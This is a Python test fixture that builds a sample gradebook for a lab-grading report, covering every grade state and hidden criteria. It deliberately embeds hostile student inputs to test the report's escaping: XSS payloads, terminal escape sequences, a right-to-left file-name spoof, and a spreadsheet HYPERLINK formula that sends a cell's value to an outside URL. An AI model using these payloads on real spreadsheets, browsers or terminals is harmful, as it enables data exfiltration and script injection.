"""A small class for tests of whatever is made from a gradebook: every state, hidden criteria, a hostile student."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace
from datetime import datetime, timedelta, timezone
from typing import Any

from checks.harness.report.gradebook import Grade, Gradebook, GradedLab, Row, Student
from checks.harness.report.model import Cost, Criterion, Line, Points, Result, SentRequest, Status

LAB01 = GradedLab(name="lab01_table_automation", title="Lab 01: table automation", max_points=6)
LAB02 = GradedLab(name="lab02_update_items", title="Lab 02: update items", max_points=4)

SECRET = "SECRET-OF-A-HIDDEN-CRITERION"
"""In every text and value of a hidden criterion; its points are 0.75, and no others are in hundredths."""

HOSTILE = (
    "<script>alert(1)</script></style><img src=x onerror=alert(2)> ]]> & \"'` ```\n# [x](javascript:alert(3)) | a |"
    "\x1b[2J\x1b]0;owned\x07\x00\x08\u202egnp.exe\u2066\ud800\ufffe \x85"
)
"""Text that a terminal, a browser, an XML reader or a Markdown reader would obey or choke on."""

FORMULA = '=HYPERLINK("http://example.com/?x="&A1,"my grade")'
"""Text that a spreadsheet would obey."""

MADE = datetime(2026, 3, 2, 18, 30, tzinfo=timezone(timedelta(hours=1)))
HIDDEN = frozenset({(2, "test_hidden"), (3, "test_hidden_alone")})


def gradebook() -> Gradebook:
    """Lab 01 (6 points, 1.5 of them hidden) and lab 02 (4 points), seven students in the order of their names."""
    rows = (
        row(student("ada", "Ada Lovelace"), passed(), passed(LAB02)),
        row(student("alan", "Alan Turing"), not_started(), grade("missing", LAB02, "Nothing was handed in.")),
        row(student("barbara", "Barbara Liskov"), partial(), grade("error", LAB02, "The worker was killed.")),
        row(
            student("edsger", "Edsger Dijkstra"),
            grade("refused", LAB01, "bomb.zip unpacks to more than 20 MB."),
            open_(),
        ),
        row(student("grace", "Grace Hopper"), replace(partial(), late=True, keeps=80, handed_in=MADE), passed(LAB02)),
        row(student("ken", ""), replace(passed(), attempt=2, attempts=3), replace(passed(LAB02), reused=True)),
        row(student(FORMULA, "<script>alert(1)</script>\x1b[2J\u202e", file="hyperlink-1"), hostile(), passed(LAB02)),
    )
    return Gradebook(
        title="Databases, spring",
        labs=(LAB01, LAB02),
        rows=rows,
        isolation="bubblewrap",
        made=MADE,
        seconds=12.5,
        notes=("submissions/notes.txt belongs to nobody.",),
    )


def row(who: Student, first: Grade, second: Grade) -> Row:
    return Row(student=who, grades={LAB01.name: first, LAB02.name: second})


def student(id: str, name: str = "", *, file: str = "", columns: Mapping[str, str] | None = None) -> Student:  # noqa: A002
    return Student(id=id, name=name, file=file or id, columns=columns or {})


def with_columns(book: Gradebook, columns: Mapping[str, Mapping[str, str]]) -> Gradebook:
    """The same class with these rows of a roster, by the students' ids."""
    rows = []
    for each in book.rows:
        who = replace(each.student, columns=columns.get(each.student.id, {}))
        rows.append(replace(each, student=who))
    return replace(book, rows=tuple(rows))


# Grades --------------------------------------------------------------------------------------------------------------


def passed(lab: GradedLab = LAB01) -> Grade:
    """All points."""
    return graded(lab, "passed")


def partial() -> Grade:
    """Lab 01 with 3 of 6 points: one visible criterion failed, one not started, and a hidden one failed."""
    return graded(LAB01, "failed")


def not_started() -> Grade:
    """The untouched stub of lab 01: no points."""
    return graded(LAB01, "not started")


def hostile() -> Grade:
    """Lab 01 with every text that comes from the student hostile."""
    return graded(LAB01, "failed", text=HOSTILE)


def grade(state: Any, lab: GradedLab, remark: str, without: Points | None = None) -> Grade:
    """A grade without a result."""
    if state == "missing":
        without = 0
    return Grade(state=state, max_points=lab.max_points, remark=remark, without=without)


def open_() -> Grade:
    """Lab 02 not handed in, and the instructor leaves it open what that counts."""
    return Grade(state="missing", max_points=LAB02.max_points, remark="Nothing was handed in.")


def graded(lab: GradedLab, status: Status, text: str = "") -> Grade:
    checklist = lab01(status, text) if lab is LAB01 else lab02()
    made = Result(
        lab=lab.name,
        submission="ada",
        seed=4711,
        isolation="bubblewrap",
        seconds=0.41,
        digests={"checks": "c0ffee", "submission": "f00d", "kit": "0.1.0"},
        checklist=checklist,
    )
    assert made.max_points == lab.max_points
    return Grade(state="graded", max_points=lab.max_points, result=made, hidden=HIDDEN if lab is LAB01 else frozenset())


# Checklists ----------------------------------------------------------------------------------------------------------


def lab01(status: Status, text: str = "") -> tuple[Line, ...]:
    """Three lines: all visible, one of two hidden, and one hidden criterion alone."""
    key = criterion("test_key", status, "The partition key is `username`, a string.", text=text)
    waits = criterion("test_waits", "passed" if status == "passed" else "not started", "The function waits.")
    return (
        Line(1, "Successfully create a table", (replace(key, max_points=1.5), *_rest(status))),
        Line(2, "Wait for the table", (waits, hidden("test_hidden", status))),
        Line(3, f"Hold against {SECRET}", (hidden("test_hidden_alone", status),)),
    )


def _rest(status: Status) -> tuple[Criterion, ...]:
    """A criterion that everybody passes who has begun."""
    begun: Status = "not started" if status == "not started" else "passed"
    return (criterion("test_region", begun, "The table is in the region that was asked for.", points=2),)


def lab02() -> tuple[Line, ...]:
    return (Line(1, "Set an attribute", (criterion("test_set", "passed", "Only that attribute is set.", points=4),)),)


def criterion(id: str, status: Status, requirement: str, *, points: Points = 1, text: str = "") -> Criterion:  # noqa: A002
    """A criterion with everything that its status calls for; `text` stands wherever the student has a say."""
    made = Criterion(id=id, function="create_table", text=requirement, status=status, max_points=points)
    if status == "failed":
        return replace(
            made,
            message=f"create_table() did something else. {text}".strip(),
            where=f"{text or 'dynamodb_script'}.py:41",
            output=f"creating {text}\n" * 2,
            requests=(SentRequest("CreateTable", 0.0, "ok"), SentRequest("DescribeTable", 1.5, "ok")),
            cost=Cost(2),
            call=f'create_table("Users-7f", region="eu-west-1"{text})',
            expected='{"username": "HASH"}',
            got=f'{{"name": "HASH{text}"}}',
            advice="Look at KeySchema.",
        )
    if status == "not started":
        return replace(made, message="TODO 1 is not started.", where="dynamodb_script.py:30", todo=1)
    if status == "error":
        return replace(made, message="The check itself broke.", where="test_checklist.py:12")
    return made


def hidden(id: str, status: Status) -> Criterion:  # noqa: A002
    """A hidden criterion: every text of it, and every value, is a secret."""
    made = criterion(id, status, f"It is {SECRET}.", points=0.75)
    if status == "passed":
        return replace(made, output=SECRET)
    made = replace(made, message=SECRET, where=f"{SECRET}.py:7", output=SECRET, function=SECRET)
    return replace(made, call=SECRET, expected=SECRET, got=SECRET, advice=SECRET)
